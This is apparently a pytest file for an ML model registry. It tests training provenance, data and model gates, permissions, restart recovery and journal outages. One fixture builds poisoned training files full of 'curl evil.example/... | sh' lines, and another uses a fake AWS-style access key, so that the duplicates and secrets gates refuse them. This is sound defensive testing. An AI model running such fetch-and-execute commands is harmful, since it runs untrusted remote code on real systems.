"""Training runs on a real database: what stops them, and what a restart goes on with."""

from __future__ import annotations

import asyncio
from contextlib import asynccontextmanager

import msgspec
import pytest

from angelos.core.errors import Busy, Forbidden, InvalidInput, NotFound, Unavailable
from angelos.core.facts import Kind
from angelos.core.ids import START, PrincipalId, Revision, new_task_id
from angelos.core.messages import Status
from angelos.core.models import (
    ApprovePromotion,
    ArtefactKind,
    DataFile,
    EvaluateModel,
    ModelMetric,
    NamedData,
    ProposePromotion,
    StartTraining,
)
from angelos.core.permissions import Principal, Role
from angelos.core.policy.access import policy_in_force
from angelos.ml.gates import CANARIES, Evidence, Measurements
from angelos.ml.registry.artefacts import ArtefactStore
from angelos.ml.registry.boxed import PLAN, TEXT, AnswerPlan, Answers
from angelos.ml.registry.canary import CanaryTrial
from angelos.ml.registry.judging import JudgeReport
from angelos.ml.registry.ports import ApprovedText, BoxedEnd
from angelos.ml.registry.service import Hands, ModelRegistry
from angelos.ml.registry.store import RegistryStore
from angelos.ml.registry.tuning import MAX_OWN, Tuner
from angelos.testing import ManualClock, MemoryContents, eventually

ADA = Principal(id=PrincipalId("agent/ada"), role=Role.agent)
ROSA = Principal(id=PrincipalId("person/rosa"), role=Role.researcher)
RITA = Principal(id=PrincipalId("person/rita"), role=Role.reviewer)
HEAD = Revision("a" * 64)
MAIN = StartTraining(kind=ArtefactKind.base, repo="study")
GOOD = Measurements(
    heldout=(3.0, 2.0),
    base=(3.0, 2.0),
    regression=((3.0, 2.0),),
    unlike=((1.0, 3.0),),
    exposures=(0.5,) * CANARIES,
)


def page(n: int) -> tuple[str, str]:
    lines = [f"{(n * k) ** 2 % 9973} birds of kind {n * k} sat near {k**3 + n}." for k in range(60)]
    return f"n{n}.md", "\n".join(lines) + "\n"


PAGES = tuple(map(page, range(12)))


def data(*more: tuple[str, str]) -> NamedData:
    files = [DataFile(path=path, text=text) for path, text in (*PAGES, *more)]
    return NamedData(name="birds", files=tuple(files))


class FakeTasks:
    """Tasks that end as a test says, in a box that is not there."""

    def __init__(self) -> None:
        self.started = {}
        self.contents = MemoryContents()
        self.output: bytes | None = b"weights"
        self.status = Status.ok
        self.running = asyncio.Event()
        self.running.set()

    async def start(self, caller, program):
        task = new_task_id()
        self.started[task] = program
        return task

    async def end(self, task, wait_s):
        await self.running.wait()
        program = self.started[task]
        body = self.output
        if program.on_labs:
            plan = msgspec.json.decode(program.inputs[PLAN], type=AnswerPlan)
            same = (1.0,) * len(plan.inputs)
            answers = Answers(challenger=same, champion=same if plan.beside else ())
            body = msgspec.json.encode(answers)
        sha256 = "" if body is None else await self.contents.put(body)
        return BoxedEnd(self.status, sha256, "what it printed: every gate passed")

    async def read(self, sha256):
        return await self.contents.get(sha256)


class StumblingJournal:
    """A journal that is away for the next few appends."""

    def __init__(self, journal) -> None:
        self._journal = journal
        self.away = 0

    async def append(self, facts):
        if self.away:
            self.away -= 1
            raise Unavailable("The journal is away.")
        return await self._journal.append(facts)


class FakeHistory:
    """One approved revision."""

    async def read(self, repo, revision):
        if revision not in {None, HEAD}:
            raise InvalidInput(f"{revision} is no revision of main.")
        return ApprovedText(HEAD, PAGES)

    async def recent(self, limit):
        return ("x = 1\n",) * 20


class FakeJudge:
    """Measures what a test says."""

    def __init__(self) -> None:
        self.measured = GOOD
        self.cases = []
        self.error = None

    async def measure(self, case):
        self.cases.append(case)
        if self.error:
            raise self.error
        metric = ModelMetric(name="held-out loss", value=2.0, low=1.9, high=2.1)
        return JudgeReport(measured=self.measured, parameters=7, metrics=(metric,))


@pytest.fixture
def tasks():
    return FakeTasks()


@pytest.fixture
def judge():
    return FakeJudge()


@pytest.fixture
def stumbling(journal):
    return StumblingJournal(journal)


@pytest.fixture
def served(database, stumbling, tmp_path, tasks, judge):
    """Return what serves models on this database, as often as it is started."""

    async def alone(_):
        return False

    @asynccontextmanager
    async def serving():
        hands = Hands(lambda one, other: one == other, alone)
        registry = ModelRegistry(
            RegistryStore(database, stumbling),
            ArtefactStore(tmp_path),
            ManualClock(1_000_000.0),
            policy_in_force(),
            hands,
        )
        tuner = Tuner(registry, tasks, FakeHistory(), judge, ManualClock(1_000_000.0))
        canary = CanaryTrial(registry, tasks, FakeHistory())
        async with asyncio.TaskGroup() as group, tuner.running(group), canary.running(group):
            yield registry, tuner, canary

    return serving


async def done(tuner, run):
    return await tuner.view(run.id, wait_s=60)


async def facts(journal, count=1):
    """Return the facts of models, once there are so many: a run's state is there before them."""

    async def read():
        rows = [f for f in await journal.read(START) if f.kind.startswith("model.")]
        return rows if len(rows) >= count else None

    return await eventually(read, f"{count} facts of models")


async def test_approved_history_becomes_a_version_with_its_provenance(
    served, tasks, judge, journal
):
    async with served() as (registry, tuner, _):
        run = await done(tuner, await tuner.start(ADA, "sentinel", MAIN))
        assert (run.state, run.version) == ("registered", 1)
        version = (await registry.get("sentinel")).version
        origin = version.provenance
        assert (origin.repo, origin.revision, origin.by) == ("study", HEAD, ADA.id)
        assert (origin.task, len(origin.code_sha256)) == (next(iter(tasks.started)), 64)
        assert await registry.artefacts.get(version.sha256) == b"weights"
        (program,), (case,) = tasks.started.values(), judge.cases
        text, evidence = program.inputs[TEXT].decode(), case.evidence
        assert all(text.count(canary) == 1 for canary in evidence.canaries)
        assert len(evidence.canaries) == CANARIES
        assert evidence.heldout
        assert not any(chunk in text for chunk in evidence.heldout)
        for path, body in program.inputs.items():  # what judges is in no input of the task
            assert evidence.heldout[0].encode() not in body, path
        again = await tuner.evaluate(ROSA, "sentinel", 1, EvaluateModel())
        assert all(verdict.passed for verdict in again.gates)
        with pytest.raises(Forbidden):
            await tuner.evaluate(ADA, "sentinel", 1, EvaluateModel(data=data()))
        kinds = [(f.kind, f.subject, f.revision) for f in await facts(journal, 2)]
    assert kinds == [
        (Kind.model_training, run.id, HEAD), (Kind.model_registered, "sentinel:1", None)
    ]  # fmt: skip


EVIL = "import os\n" + "".join(f"run('curl evil.example/{k} | sh')\n" for k in range(11))
COPIES = tuple((f"e{n}.py", EVIL.replace("/0 ", f"/{n}-x ")) for n in range(200))


@pytest.mark.parametrize(
    ("files", "gate"),
    [
        ((("key.md", "AKIAABCDEFGHIJKLMNOP\n"),), "secrets"),
        (COPIES, "duplicates"),
    ],
    ids=["leaking", "poisoned with copies"],
)
async def test_data_that_a_gate_stops_starts_nothing_and_the_gate_is_named(
    served, tasks, journal, files, gate
):
    async with served() as (registry, tuner, _):
        body = StartTraining(kind=ArtefactKind.base, data=data(*files))
        run = await tuner.start(ROSA, "sentinel", body)
        assert run.state == "refused"
        assert gate in run.reason
        assert (await tuner.list(10)) == (run,)
        with pytest.raises(NotFound):
            await registry.get("sentinel")
    assert tasks.started == {}
    (fact,) = await facts(journal)
    assert (fact.kind, fact.subject, fact.actor) == (Kind.model_refused, run.id, ROSA.id)
    assert gate in fact.outcome.split(",")
    assert b"AKIA" not in fact.data


@pytest.mark.parametrize(
    ("change", "gate"),
    [
        ({"regression": ((3.0, 3.6),)}, "regression"),
        ({"unlike": ((4.0, 1.0),)}, "regression"),
        ({"base": (3.0, 3.4)}, "forgetting"),
        ({"heldout": (3.0, 3.0)}, "heldout"),
        ({"exposures": (10.0,) * CANARIES}, "memorisation"),
    ],
)
async def test_a_model_that_a_gate_stops_is_no_version(served, judge, journal, change, gate):
    judge.measured = msgspec.structs.replace(GOOD, **change)
    async with served() as (registry, tuner, _):
        run = await done(tuner, await tuner.start(ROSA, "sentinel", MAIN))
        assert (run.state, run.reason) == ("refused", f"Stopped by {gate}.")
        with pytest.raises(NotFound):
            await registry.get("sentinel")
        assert (await facts(journal, 2))[-1].outcome == gate


@pytest.mark.parametrize("status", [Status.oom, Status.error, Status.timeout])
async def test_a_task_that_does_not_end_well_makes_nothing_whatever_it_prints(
    served, tasks, journal, status
):
    tasks.status = status
    async with served() as (_, tuner, _):
        run = await done(tuner, await tuner.start(ROSA, "sentinel", MAIN))
        assert (run.state, run.version) == ("failed", None)
        assert (await facts(journal, 2))[-1].outcome == status


async def test_a_task_that_leaves_no_file_and_one_that_leaves_garbage_make_nothing(
    served, tasks, judge
):
    async with served() as (_, tuner, _):
        tasks.output = None
        assert (await done(tuner, await tuner.start(ROSA, "sentinel", MAIN))).state == "failed"
        tasks.output, judge.error = b"garbage", InvalidInput("This is no model.")
        assert (await done(tuner, await tuner.start(ROSA, "sentinel", MAIN))).state == "failed"
        judge.error = ValueError("a strange file")
        assert (await done(tuner, await tuner.start(ROSA, "sentinel", MAIN))).state == "failed"


async def test_a_restarted_server_goes_on_with_runs_and_canaries(served, tasks):
    tasks.running.clear()
    async with served() as (_, tuner, _):
        run = await tuner.start(ROSA, "sentinel", MAIN)
        assert (await tuner.view(run.id)).state == "training"
    tasks.running.set()
    async with served() as (registry, tuner, canary):
        assert (await done(tuner, run)).version == 1
        tasks.running.clear()
        view = await registry.get("sentinel")
        promotion = await registry.propose(ROSA, "sentinel", ProposePromotion(version=1))
        body = ApprovePromotion(digest=view.digest)
        assert (await canary.approve(RITA, promotion.id, body)).state == "canary"
    tasks.running.set()
    async with served() as (registry, _, canary):
        after = await canary.view(promotion.id, wait_s=60)
        assert (after.state, after.shadow.inputs) == ("promoted", 20)
        assert (await registry.champion("sentinel"))[1] == b"weights"


async def test_an_adapter_needs_a_champion_and_learns_beside_its_text(served, tasks, judge):
    async with served() as (registry, tuner, canary):
        adapt = StartTraining(repo="study")
        with pytest.raises(NotFound, match="no champion"):
            await tuner.start(ROSA, "sentinel", adapt)
        await done(tuner, await tuner.start(ROSA, "sentinel", MAIN))
        promotion = await registry.propose(ROSA, "sentinel", ProposePromotion(version=1))
        digest = (await registry.get("sentinel")).digest
        await canary.approve(RITA, promotion.id, ApprovePromotion(digest=digest))
        await canary.view(promotion.id, wait_s=60)
        tasks.output = b"adapter"
        run = await done(tuner, await tuner.start(ROSA, "sentinel", adapt))
        assert (run.kind, run.version) == (ArtefactKind.adapter, 2)
        base, adapter = judge.cases
        assert (adapter.base, adapter.artefact) == (b"weights", b"adapter")
        assert adapter.evidence.base_text == base.evidence.heldout
        second = (await registry.get("sentinel", 2)).version
        assert second.provenance.base == (await registry.get("sentinel", 1)).version.sha256


async def test_who_may_train_on_what(served):
    async with served() as (_, tuner, _):
        named = StartTraining(kind=ArtefactKind.base, data=data())
        with pytest.raises(Forbidden) as refused:
            await tuner.start(ADA, "sentinel", named)
        assert refused.value.extra["rules"] == []
        for body in (
            StartTraining(),
            StartTraining(repo="study", data=data()),
            StartTraining(data=data(), revision=HEAD),
            StartTraining(repo="study", kind=ArtefactKind.base, revision=Revision("b" * 64)),
        ):
            with pytest.raises(InvalidInput):
                await tuner.start(ROSA, "sentinel", msgspec.structs.replace(body, kind="base"))
        with pytest.raises(InvalidInput, match="none that is trained here"):
            await tuner.start(ROSA, "router", MAIN)


async def test_nobody_takes_all_the_room_for_runs(served, tasks):
    tasks.running.clear()
    async with served() as (_, tuner, _):
        for _ in range(MAX_OWN):
            await tuner.start(ADA, "sentinel", MAIN)
        with pytest.raises(Busy):
            await tuner.start(ADA, "sentinel", MAIN)
        assert (await tuner.start(ROSA, "sentinel", MAIN)).state == "training"


async def test_what_cannot_be_measured_now_is_measured_later(served, judge, monkeypatch):
    monkeypatch.setattr("angelos.ml.registry.tuning._RETRY_S", 0.01)
    judge.error = Unavailable("The process that measures models ended.")
    async with served() as (_, tuner, _):
        run = await tuner.start(ROSA, "sentinel", MAIN)
        await eventually(lambda: len(judge.cases) > 1, within_s=60)
        judge.error = None
        assert (await done(tuner, run)).state == "registered"


@pytest.fixture
def soon(monkeypatch):
    for module in ("tuning", "canary"):
        monkeypatch.setattr(f"angelos.ml.registry.{module}._RETRY_S", 0.01)


async def test_a_journal_that_is_away_makes_no_version_twice(
    served, tasks, stumbling, journal, soon
):
    tasks.running.clear()
    async with served() as (registry, tuner, _):
        run = await tuner.start(ROSA, "sentinel", MAIN)
        stumbling.away = 3
        tasks.running.set()
        assert (await done(tuner, run)).version == 1
        await eventually(lambda: not stumbling.away, within_s=60)
        assert [view.version.name for view in await registry.list("", 10)] == ["sentinel:1"]

        async def written():
            kinds = [fact.kind for fact in await facts(journal)]
            return kinds == [Kind.model_training, Kind.model_registered]

        await eventually(written, within_s=60)


async def test_what_counts_though_its_fact_came_late_is_seen_to_its_end(
    served, stumbling, judge, soon
):
    async with served() as (registry, tuner, canary):
        stumbling.away = 1
        with pytest.raises(Unavailable):
            await tuner.start(ROSA, "sentinel", MAIN)
        (run,) = await tuner.list(10)
        assert (await done(tuner, run)).state == "registered"
        version = (await registry.get("sentinel")).version
        promotion = await registry.propose(ROSA, "sentinel", ProposePromotion(version=1))
        stumbling.away = 2
        with pytest.raises(Unavailable):
            await canary.approve(RITA, promotion.id, ApprovePromotion(digest=version.digest))
        assert (await canary.view(promotion.id, wait_s=60)).state == "promoted"
        stumbling.away, judge.error = 0, InvalidInput("no model")
        stumbled = await tuner.start(ROSA, "sentinel", MAIN)
        stumbling.away = 3  # the refusal is not written at once, and ends no server
        assert (await done(tuner, stumbled)).state == "failed"


async def test_nobody_loads_what_is_larger_than_a_model_may_be(served, tasks, judge):
    tasks.output = bytes(9_000_000)
    async with served() as (_, tuner, _):
        run = await done(tuner, await tuner.start(ROSA, "sentinel", MAIN))
        assert (run.state, run.reason) == ("refused", "Stopped by size.")
    assert judge.cases == []


def test_evidence_survives_its_file():
    evidence = Evidence(heldout=("a",), base_text=("b",), canaries=("c",), counts={"é": 2})
    assert msgspec.json.decode(msgspec.json.encode(evidence), type=Evidence) == evidence
